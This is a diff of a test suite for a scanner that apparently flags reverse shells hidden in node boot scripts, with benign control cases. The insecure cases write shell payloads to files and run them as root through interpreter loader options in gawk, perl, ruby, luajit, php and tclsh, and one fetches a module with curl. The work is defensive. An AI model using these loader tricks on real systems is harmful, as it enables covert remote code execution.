@@ -57,7 +57,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: GNU awk manual, "Command-Line Options" (`-i source-file`/`--include=source-file`: "Read an awk source
+    // Was a MISS (fixed in round 66): GNU awk manual, "Command-Line Options" (`-i source-file`/`--include=source-file`: "Read an awk source
     // library from source-file ... as -f") and "Including Other Files" (@include; "source files may also be included
     // using the -i option"): the included file is program text run before the program, so a root `gawk -i /opt/r.awk
     // 'BEGIN{}'` of a written /inet/tcp + `|&` reverse shell is that shell; SOCKET_SHELL_CODE/stdinProgram
@@ -66,7 +66,6 @@ const insecure: NodeCase[] = [
         "gawk -i written",
         devNodeScript("dev-x6-nodes", ["cat > /opt/r.awk <<'EOF'", AWK_SHELL, "EOF", "gawk -i /opt/r.awk 'BEGIN{}'"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "bash written",
@@ -243,22 +242,20 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-d3-nodes", ["gawk -E /dev/stdin <<'EOF'", AWK_SHELL, "EOF"]),
         RELAY,
     ),
-    // MISS: GNU awk manual, "Command-Line Options" (-i source-file reads awk source) with /dev/stdin ("Other Inherited
+    // Was a MISS (fixed in round 66): GNU awk manual, "Command-Line Options" (-i source-file reads awk source) with /dev/stdin ("Other Inherited
     // Files"): the here-document's /inet/tcp reverse shell is program text; stdinProgram's awk word match is only
     // -f/-E/--file=/--exec=, not -i/--include. Accepted.
     devNodeCase(
         "gawk -i /dev/stdin 'BEGIN{}'",
         devNodeScript("dev-d4-nodes", ["gawk -i /dev/stdin 'BEGIN{}' <<'EOF'", AWK_SHELL, "EOF"]),
         RELAY,
-        true,
     ),
-    // MISS: as `gawk -i /dev/stdin` (GNU awk manual, "Command-Line Options": --include=source-file): the long form
+    // Was a MISS (fixed in round 66): as `gawk -i /dev/stdin` (GNU awk manual, "Command-Line Options": --include=source-file): the long form
     // glued with `=` is not read as program text either. Accepted.
     devNodeCase(
         "gawk --include=/dev/stdin",
         devNodeScript("dev-d5-nodes", ["gawk --include=/dev/stdin 'BEGIN{}' <<'EOF'", AWK_SHELL, "EOF"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "gawk -f written",
@@ -431,7 +428,7 @@ const insecure: NodeCase[] = [
         RELAY,
     ),
     // Round 65 second batch: modules and libraries an interpreter loads by name (the code not on its command line).
-    // MISS: LuaJIT docs, "Running LuaJIT" (`-l library`: loads the named module, lua.c's `require(name)`) and the Lua
+    // Was a MISS (fixed in round 66): LuaJIT docs, "Running LuaJIT" (`-l library`: loads the named module, lua.c's `require(name)`) and the Lua
     // manual, package.path (LuaJIT's default path starts with "./?.lua"): in /opt/l, `luajit -lrev` runs the written
     // rev.lua LuaSocket + io.popen reverse shell as root before -e; the -l value is read as a name, never as the module
     // file user data wrote. Accepted.
@@ -445,9 +442,8 @@ const insecure: NodeCase[] = [
             "luajit -lrev -e 'print(1)'",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: perlrun(1) (`-Idirectory` prepends to @INC; `-Mmodule` executes `use module;` before the program, which
+    // Was a MISS (fixed in round 66): perlrun(1) (`-Idirectory` prepends to @INC; `-Mmodule` executes `use module;` before the program, which
     // compiles and runs the module file's top-level code): /opt/Rev.pm, written by user data, holds the IO::Socket
     // reverse shell and runs as root; the -M module is not resolved through -I to the written file. Accepted.
     devNodeCase(
@@ -461,9 +457,8 @@ const insecure: NodeCase[] = [
             "perl -I/opt -MRev -e 1",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: ruby(1) (`-I directory` adds to $LOAD_PATH; `-r library` requires it before executing the script):
+    // Was a MISS (fixed in round 66): ruby(1) (`-I directory` adds to $LOAD_PATH; `-r library` requires it before executing the script):
     // /opt/rev.rb (written: TCPSocket + exec /bin/sh) runs as root; `node -r /opt/rev.js` (the same shape) is refused,
     // ruby's -r of a written library is not read. Accepted.
     devNodeCase(
@@ -476,14 +471,13 @@ const insecure: NodeCase[] = [
             "ruby -I/opt -rrev -e 1",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "node -r /opt/rev.js -e 1",
         devNodeScript("dev-h4-nodes", ["cat > /opt/rev.js <<'EOF'", NODE_SHELL, "EOF", "node -r /opt/rev.js -e 1"]),
         RELAY,
     ),
-    // MISS: PHP manual, "Core php.ini directives" (auto_prepend_file: "Specifies the name of a file that is
+    // Was a MISS (fixed in round 66): PHP manual, "Core php.ini directives" (auto_prepend_file: "Specifies the name of a file that is
     // automatically parsed before the main file ... as if it was called with the require function") and CLI `-d
     // foo[=bar]`: the written /opt/r.php fsockopen + proc_open reverse shell runs as root before /opt/noop.php; the -d
     // ini value is not read as a script. Accepted.
@@ -497,9 +491,8 @@ const insecure: NodeCase[] = [
             "php -d auto_prepend_file=/opt/r.php /opt/noop.php",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: perlrun(1) ENVIRONMENT (PERL5OPT: "Command-line options (switches) ... interpreted as if they appeared on
+    // Was a MISS (fixed in round 66): perlrun(1) ENVIRONMENT (PERL5OPT: "Command-line options (switches) ... interpreted as if they appeared on
     // every Perl command line", only -[CDIMUdmtwW] allowed; PERL5LIB: directories searched before the standard
     // library): `-MRev` loads the written /opt/Rev.pm reverse shell as root; the environment's options are not read.
     // Accepted.
@@ -514,9 +507,8 @@ const insecure: NodeCase[] = [
             "PERL5OPT=-MRev PERL5LIB=/opt perl -e 1",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: GNU awk manual, "Including Other Files into Your Program" (`@include "file"` reads that awk source into the
+    // Was a MISS (fixed in round 66): GNU awk manual, "Including Other Files into Your Program" (`@include "file"` reads that awk source into the
     // program; a path with `/` is used as is): /opt/a.awk includes the written /opt/r.awk /inet/tcp + `|&` reverse
     // shell, which root runs; the program file is read but its @include is not followed (nor failed closed). Accepted.
     devNodeCase(
@@ -531,18 +523,16 @@ const insecure: NodeCase[] = [
             "gawk -f /opt/a.awk",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: tclsh(1) (no script operand: commands read from standard input, here the here-string) and Tcl source(n)
+    // Was a MISS (fixed in round 66): tclsh(1) (no script operand: commands read from standard input, here the here-string) and Tcl source(n)
     // ("Evaluate a file or resource as a Tcl script"): `source /opt/r.tcl` runs the written socket + exec reverse shell
     // as root; the stdin program is read but its `source` of a written file is not followed. Accepted.
     devNodeCase(
         "tclsh <<< source written",
         devNodeScript("dev-h8-nodes", ["cat > /opt/r.tcl <<'EOF'", TCL_SHELL, "EOF", "tclsh <<< 'source /opt/r.tcl'"]),
         RELAY,
-        true,
     ),
-    // MISS: Lua reference manual, dofile ("Opens the named file and executes its content as a Lua chunk"): `luajit -e
+    // Was a MISS (fixed in round 66): Lua reference manual, dofile ("Opens the named file and executes its content as a Lua chunk"): `luajit -e
     // 'dofile("/opt/r.lua")'` runs the written LuaSocket + io.popen reverse shell as root; the -e chunk is read, but
     // its dofile/loadfile/require of a written file is not followed. Accepted.
     devNodeCase(
@@ -554,7 +544,71 @@ const insecure: NodeCase[] = [
             `luajit -e 'dofile("/opt/r.lua")'`,
         ]),
         RELAY,
-        true,
+    ),
+    // Round 66 neighbours: the same loaders by other spellings (CODE_LOADERS), a module the pack cannot read refused.
+    devNodeCase(
+        "RUBYOPT=-rrev RUBYLIB=/opt ruby -e 1",
+        devNodeScript("dev-h10-nodes", [
+            "cat > /opt/rev.rb <<'EOF'",
+            "require 'socket'",
+            RUBY_SHELL,
+            "EOF",
+            "RUBYOPT=-rrev RUBYLIB=/opt ruby -e 1",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "LUA_INIT=@written luajit -e print",
+        devNodeScript("dev-h11-nodes", [
+            "cat > /opt/r.lua <<'EOF'",
+            LUA_SHELL,
+            "EOF",
+            "LUA_INIT=@/opt/r.lua luajit -e 'print(1)'",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "php -c written php.ini (auto_prepend_file)",
+        devNodeScript("dev-h12-nodes", [
+            "cat > /opt/r.php <<'EOF'",
+            `<?php ${PHP_SHELL}`,
+            "EOF",
+            "echo 'auto_prepend_file=/opt/r.php' > /opt/php.ini",
+            "php -c /opt/php.ini -r 'echo 1;'",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "perl -I/tmp -MRev (a module downloaded at boot)",
+        devNodeScript("dev-h13-nodes", [
+            "curl -fsSLo /tmp/Rev.pm https://example.com/Rev.pm || true",
+            "perl -I/tmp -MRev -e 1",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "luajit -e loadstring(io.read()) (code read at run time)",
+        devNodeScript("dev-h14-nodes", [`luajit -e 'loadstring(io.read("*a"))()' < /tmp/code.lua`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "tclsh <<< load written library",
+        devNodeScript("dev-h15-nodes", ["base64 -d > /opt/r.so <<<'AAAA'", "tclsh <<< 'load /opt/r.so'"]),
+        RELAY,
+    ),
+    devNodeCase(
+        'gawk -i b.awk whose @include "rev" is a written AWKPATH library',
+        devNodeScript("dev-h16-nodes", [
+            "mkdir -p /usr/local/share/awk",
+            "cat > /usr/local/share/awk/rev.awk <<'EOF'",
+            AWK_SHELL,
+            "EOF",
+            "cat > /opt/b.awk <<'EOF'",
+            '@include "rev"',
+            "EOF",
+            "gawk -i /opt/b.awk 'BEGIN{}'",
+        ]),
+        RELAY,
     ),
     // Round 66 neighbours: code reaching a program through a descriptor, process substitution, an unknown file, xargs
     // items, env -S, an applet, zsh's ztcp, and a node client relaying two connections.
@@ -627,6 +681,81 @@ const insecure: NodeCase[] = [
 ];
 
 const secure: NodeCase[] = [
+    devNodeCase(
+        "perl -MJSON::PP -e (core module)",
+        devNodeScript("dev-u1-nodes", [`perl -MJSON::PP -e 'print JSON::PP->new->encode({ok => 1})' > /tmp/j`]),
+    ),
+    devNodeCase(
+        "perl -I/opt -MHello (written, no socket)",
+        devNodeScript("dev-u2-nodes", [
+            "cat > /opt/Hello.pm <<'EOF'",
+            "package Hello; open my $f, '>', '/tmp/hello'; print $f 'hi'; 1;",
+            "EOF",
+            "perl -I/opt -MHello -e 1",
+        ]),
+    ),
+    devNodeCase(
+        "ruby -I/opt -rhello (written, no socket)",
+        devNodeScript("dev-u3-nodes", [
+            "cat > /opt/hello.rb <<'EOF'",
+            "File.write('/tmp/hello', 'hi')",
+            "EOF",
+            "ruby -I/opt -rhello -e 1",
+        ]),
+    ),
+    devNodeCase(
+        "luajit -lhello in its directory (written, no socket)",
+        devNodeScript("dev-u4-nodes", [
+            "mkdir -p /opt/l && cd /opt/l",
+            "cat > hello.lua <<'EOF'",
+            "io.open('/tmp/hello','w'):write('hi')",
+            "EOF",
+            "luajit -lhello -e 'print(1)'",
+        ]),
+    ),
+    devNodeCase(
+        "php -d auto_prepend_file=written (no socket)",
+        devNodeScript("dev-u5-nodes", [
+            "echo '<?php date_default_timezone_set(\"UTC\");' > /opt/tz.php",
+            "php -d auto_prepend_file=/opt/tz.php -r 'echo date(\"Y\");' > /tmp/y",
+        ]),
+    ),
+    devNodeCase(
+        "gawk @include written library (no socket)",
+        devNodeScript("dev-u6-nodes", [
+            "cat > /opt/lib.awk <<'EOF'",
+            "function twice(x) { return 2 * x }",
+            "EOF",
+            "gawk -i /opt/lib.awk '{ print twice($2) }' /proc/meminfo > /tmp/m",
+        ]),
+    ),
+    devNodeCase(
+        "tclsh <<< source written (no socket) and package require http",
+        devNodeScript("dev-u7-nodes", [
+            "cat > /opt/h.tcl <<'EOF'",
+            "puts [info hostname]",
+            "EOF",
+            "tclsh <<< 'package require http; source /opt/h.tcl' > /tmp/h",
+        ]),
+    ),
+    devNodeCase(
+        "luajit -e dofile written (no socket)",
+        devNodeScript("dev-u8-nodes", [
+            "cat > /opt/s.lua <<'EOF'",
+            "local s=0 for i=1,10 do s=s+i end print(s)",
+            "EOF",
+            `luajit -e 'dofile("/opt/s.lua")' > /tmp/s`,
+        ]),
+    ),
+    devNodeCase(
+        "PERL5LIB=/opt perl -MHello (written, no socket)",
+        devNodeScript("dev-u9-nodes", [
+            "cat > /opt/Hello.pm <<'EOF'",
+            "package Hello; 1;",
+            "EOF",
+            "PERL5LIB=/opt perl -MHello -e 'print 1' > /tmp/p",
+        ]),
+    ),
     devNodeCase(
         "gawk -f written (no socket)",
         devNodeScript("dev-s1-nodes", [
